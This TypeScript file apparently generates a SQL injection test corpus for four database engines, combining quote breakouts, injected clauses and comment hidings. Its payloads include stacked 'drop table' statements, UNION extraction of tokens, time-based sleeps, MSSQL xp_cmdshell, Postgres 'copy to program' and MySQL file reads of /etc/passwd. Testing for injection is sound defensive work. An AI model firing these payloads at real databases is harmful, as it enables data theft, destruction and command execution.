// Texts that would do harm if any of them ever became SQL: for each engine a fixed corpus, made of ways to
// break out of a value, what is tried then, and ways to hide the rest; beside it what only one engine
// misreads.
// Invariant: the same list in every run, each text once, so that a finding can be named by its number.

/** The engines that the corpus knows. */
export type SqlEngine = 'sqlite' | 'postgres' | 'mysql' | 'mssql';

/** Long enough that a request in which a sleep took effect runs into the client's patience. */
const sleepS = 30;

/** Ends of a value or name, in every spelling that some parser took for one. */
const breakers = [
  ...["'", '"', '`', ']', ')', "')", '")', "'))", "\\'", '\\"', "''", "'''", "\\\\'", '\\', "%'", "_'"],
  // Quotes of Unicode that databases or proxies turned into plain ones; GBK, Big5 and Shift-JIS leads.
  ...['’', 'ʼ', '＇', '＂', '“', "縗'", "\u00bf'", "\u00bf\\'", "\u8ba4\\'", "表'", '表\\', "\u00a5'"],
  ...["x'", "N'", "E'\\'", "_utf8'", '$$', '$a$', "q'[", "U&'\\0027'", "'||'", "'+'", "' '", "{'", "}'"],
  ...['1', '-1', '1)', '1))', '0x31', '1e0', "1'", '.', 'null', 'id', 'body', '*/', "*/'", "\n'", "\t'"],
];

const hidings = ['', '--', '-- ', '--\n', '#', '/*', ';--', ')--', "'", '"', '`', '/**/', ';\u0000', '%00'];

/** What is tried after the break, wherever SQL is spoken. */
const attempts = [
  ...[' or 1=1', " or '1'='1", ' or true', ' and 1=0', ' and false', '||1', ' xor 1', ' or 1 like 1'],
  ...[' or id is not null', ' or id in (select id from word)', ' or exists(select 1 from secret)'],
  ...[' union select 1', ' union all select null,null,null', " union select id,token,id,'x' from secret"],
  ...[' order by 1', ' order by 99', ' group by body having 1=1', ' limit 1 offset 0', ' for update'],
  ...['; drop table word', '; delete from word', "; update word set body='owned'", '; truncate table word'],
  ...[
    "; insert into secret values (99,'owned')",
    '; create table owned (id integer)',
    '; commit',
    '; rollback',
  ],
  ...[';begin;drop table secret;commit', '; grant all on word to public', '; alter table word add owned int'],
  ...['\nor\n1=1', '/**/or/**/1=1', '\tOR\t1=1', '+or+1=1', '%20or%201=1', ' oR 1=1', '\u00a0or\u00a01=1'],
  ...[' un/**/ion sel/**/ect 1', ' and (select count(*) from secret)>0', ' and substr(token,1,1)=char(99)'],
  ...[
    ' is null',
    ' between 0 and 9999',
    " like '%",
    " not like 'x",
    ' escape x',
    ' collate nocase',
    ' = body',
  ],
  ...[' case when 1=1 then 1 else 1/0 end', ' + (select 1/0)', ',(select token from secret)', ' as body'],
  ...['(select token from secret limit 1)', ', secret.token', ' join secret on 1=1', ' cross join secret'],
];

/** What is tried on one engine only. */
const ownAttempts: Readonly<Record<SqlEngine, readonly string[]>> = {
  sqlite: [
    ...[' union select 1,sql,3 from sqlite_master', "; attach database '/tmp/owned.db' as owned", ' glob *'],
    ...['; pragma writable_schema=1', '; vacuum into /tmp/owned', " and load_extension('x')", ' match x'],
    ...[
      ` and randomblob(${sleepS}00000000)`,
      ' or rowid>0',
      ' or oid=1',
      ' and zeroblob(9e9)',
      '; detach main',
    ],
    ...[" and json_extract(body,'$')", ' and unicode(token)=99', ' returning *', ' on conflict do nothing'],
  ],
  postgres: [
    ...[` and (select 1 from pg_sleep(${sleepS}))=1`, `; select pg_sleep(${sleepS})`, '||pg_sleep(30)::text'],
    ...[
      "; copy word to program 'touch /tmp/owned'",
      ' union select 1,version(),3',
      ' and cast(version() as int)=1',
    ],
    ...[
      "; select lo_import('/etc/passwd')",
      " and pg_read_file('/etc/passwd')=''",
      ' or current_user is not null',
    ],
    ...[
      '::int',
      '::text',
      '::regclass',
      "::jsonb->>'a'",
      " @> '{}'",
      " ?| array['a']",
      ' ~ x',
      ' ~* .*',
      ' similar to %',
    ],
    ...[
      '; set role postgres',
      '; do $$ begin perform 1; end $$',
      ' returning *',
      ' on conflict do nothing',
      ' ilike %',
    ],
    ...[
      '; listen owned',
      '; discard all',
      '; deallocate all',
      '; prepare x as select 1',
      '; set search_path=x',
    ],
  ],
  mysql: [
    ...[
      ` and sleep(${sleepS})`,
      `; select sleep(${sleepS})`,
      ' and benchmark(1e10,md5(1))',
      ' procedure analyse()',
    ],
    ...[
      " into outfile '/tmp/owned'",
      " and load_file('/etc/passwd')",
      ' union select 1,@@version,3',
      ' || 1',
    ],
    ...[
      ' and extractvalue(1,concat(0x7e,version()))',
      ' and updatexml(1,concat(0x7e,user()),1)',
      ' /*!50000or*/ 1=1',
    ],
    ...[
      ' /*!union*/ select 1',
      ' && 1',
      ' rlike .*',
      ' regexp .*',
      ' div 1',
      ' <=> null',
      ' sounds like x',
      "->'$.a'",
    ],
    ...[
      "->>'$.a'",
      ' and (1,2)>(select 1,1)',
      '; set global general_log=1',
      '; handler word open',
      '; kill 1',
      '; shutdown',
    ],
    ...[
      ' on duplicate key update body=1',
      ' lock in share mode',
      ' collate utf8mb4_general_ci',
      ' into @owned',
    ],
  ],
  mssql: [
    ...[
      `; waitfor delay '0:0:${sleepS}'`,
      "; exec xp_cmdshell 'dir'",
      "; exec sp_executesql N'x'",
      ' and 1=convert(int,@@version)',
    ],
    ...[
      ' union select 1,name,3 from sysobjects',
      "; backup database x to disk='owned'",
      ' for xml path',
      ' for json auto',
    ],
    ...[
      '; shutdown with nowait',
      '; declare @x int',
      ' output inserted.*',
      ' with (nolock)',
      ' top 1',
      ' offset 0 rows',
    ],
    ...[
      '; use master',
      ' collate Latin1_General_CI_AS',
      '; reconfigure',
      ' option (recompile)',
      " openrowset('x','y','z')",
    ],
  ],
};

/** Marks of prepared statements in every driver's spelling, and what formatters expand. */
const marks = [
  ...['$1', '$2', '$0', '$99', '$1::text', '?', '??', '?1', '???', ':x', ':1', ':id', '::', '::text', '@p1'],
  ...[
    '@1',
    '@x',
    '@@version',
    '%s',
    '%d',
    '%(name)s',
    '%n',
    '{0}',
    '{name}',
    '{nope}',
    `$\{1}`,
    '#{1}',
    '{{1}}',
  ],
  ...['<%= 1 %>', '\\1', '&amp;', '%27', '%2527', '%u0027', '\\u0027', '\\x27', '&#39;', '$$', '$x$', '$1$'],
];

/** Names that mean something to a database without being a field of a table. */
const names = [
  ...[
    '*',
    'word.*',
    'word',
    '"word"',
    'word.id',
    '"id"',
    '`id`',
    '[id]',
    'id;',
    'id,',
    'id desc',
    'id)',
    '(id)',
  ],
  ...[
    'rowid',
    '_rowid_',
    'oid',
    'ctid',
    'xmin',
    'tableoid',
    'rownum',
    'count(*)',
    'max(id)',
    'id as x',
    '1',
    '0',
  ],
  ...[
    '-1',
    'null',
    'true',
    'default',
    'user',
    'current_user',
    'now()',
    'version()',
    '@@version',
    'secret',
    'token',
  ],
  ...[
    'secret.token',
    'sqlite_master',
    'sqlite_sequence',
    'pg_catalog.pg_tables',
    'pg_user',
    'mysql.user',
    'dual',
  ],
  ...[
    'information_schema.tables',
    'main.secret',
    'public.secret',
    'dbo.secret',
    'sys.objects',
    'temp.secret',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'prototype',
    'length',
    'then',
    '../secret',
    '.',
  ],
  ...[
    'id::text',
    'id collate nocase',
    'case when 1 then id end',
    'id||token',
    'id+0',
    'lower(body)',
    'id -- x',
  ],
];

/** JSON paths and operators, and objects that document databases read as operators. */
const documents = [
  ...['$.a', '$[0]', '$..*', '$', 'a->b', "data->>'a'", "data#>>'{a}'", "data @> '{}'", 'data ? x', 'a.b.c'],
  ...['{"$ne":1}', '{"$gt":""}', '{"$where":"1"}', '{"expression":"1"}', '{"a":{"b":[1]}}', '[]', '{}', '"'],
  ...[
    '{"expression":"(select token from secret)"}',
    'json_extract(data,"$.a")',
    "{'a':1}",
    '[1,2]',
    '{"a":1',
    '\\"',
  ],
];

/** Wildcards and what escapes them. */
const wildcards = [
  ...[
    '%',
    '_',
    '%%',
    '__',
    '\\%',
    '\\_',
    '\\\\%',
    '%\\',
    '\\',
    '\\\\',
    '[a-z]%',
    '[^a]',
    '!%',
    '^%',
    '%_%',
    '*',
  ],
  ...['?*', '.*', '^.*$', '(.*)', '[', ']', '[]', '\\', '%\\%%', "%'%", '%"%', '% %', 'a%', '%a', '_a', 'a_'],
];

/** Bytes and signs that are lost, doubled, folded or cut on the way. */
const oddities = [
  ...[
    '',
    ' ',
    '  x',
    'x  ',
    '\t',
    '\r\n',
    '\n',
    '\u0000',
    'a\u0000b',
    "\u0000'",
    '\u0001',
    '\u007f',
    '\u0085',
  ],
  ...[
    '\u00a0',
    '\u200b',
    '\u2028',
    '\u2029',
    '\ufeff',
    '\u202e',
    '\ufffd',
    '\uffff',
    '\ud83d\ude00',
    'é',
    'e\u0301',
  ],
  ...[
    'ß',
    'İ',
    'ı',
    'ſ',
    'ﬀ',
    'Å',
    'Å',
    '１',
    '٣',
    'ﷺ',
    'K',
    'ʹ',
    '΄',
    '´',
    '‛',
    '′',
    '＼',
    '／',
    '％',
    '＿',
  ],
  ...[
    '0x27',
    '0x',
    "x'27'",
    "b'1'",
    '0b1',
    "X''",
    'char(39)',
    'chr(39)',
    "unhex('27')",
    '1e309',
    '-0',
    '1e-400',
  ],
  ...[
    '9223372036854775807',
    '9223372036854775808',
    '-9223372036854775809',
    '0.1',
    '1.0',
    '01',
    '+1',
    'NaN',
    'Infinity',
  ],
];

/** Lengths at which buffers, packets and limits of names end. */
function longOnes(): string[] {
  const units = [
    "'",
    '"',
    '\\',
    '(',
    '%',
    '_',
    '$1',
    '?',
    "' or ",
    '/*',
    'a',
    '\u00e9',
    '\ud83d\ude00',
    ';',
    "\\'",
  ];
  const lengths = [64, 65, 128, 255, 256, 1_000, 4_000];
  return units.flatMap((unit) => lengths.map((length) => `${unit.repeat(length / unit.length)}'`));
}

/** Every text of the corpus for an engine. */
export function sqlPayloads(engine: SqlEngine): readonly string[] {
  const tried = [...attempts, ...ownAttempts[engine]];
  let turn = 0;
  const broken = breakers.flatMap((breaker) =>
    tried.map((attempt) => `${breaker}${attempt}${hidings[turn++ % hidings.length]}`),
  );
  const plain = tried.flatMap((attempt) => [attempt.trim(), `1${attempt}`, `x'${attempt}-- `]);
  const hidden = breakers.flatMap((breaker) => hidings.map((hiding) => `${breaker}${hiding}`));
  const own = [...marks, ...names, ...documents, ...wildcards, ...oddities];
  return [...new Set([...own, ...longOnes(), ...plain, ...hidden, ...broken])];
}
